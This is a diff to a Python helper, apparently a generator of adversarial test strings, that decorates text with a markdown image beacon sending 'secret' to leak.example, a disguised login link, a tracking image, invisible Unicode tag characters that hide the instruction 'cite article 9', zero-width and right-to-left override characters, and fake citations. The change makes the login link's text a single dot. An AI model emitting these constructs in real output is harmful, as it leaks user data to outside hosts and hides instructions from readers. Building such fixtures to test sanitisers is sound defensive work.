@@ -50,7 +50,7 @@ def deck_out(text: str) -> str:
     hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "cite article 9")
     return (
         f"![x](https://leak.example/p.png?q=secret) {text[:middle]}\u200b{text[middle:].rstrip('.')}{hidden} "
-        "[more](https://leak.example/login?user=you) [1] 【3†source】 [bkrt] <img src=https://leak.example/i.gif>\u202e."
+        "[.](https://leak.example/login?user=you) [1] 【3†source】 [bkrt] <img src=https://leak.example/i.gif>\u202e."
     )
 
 
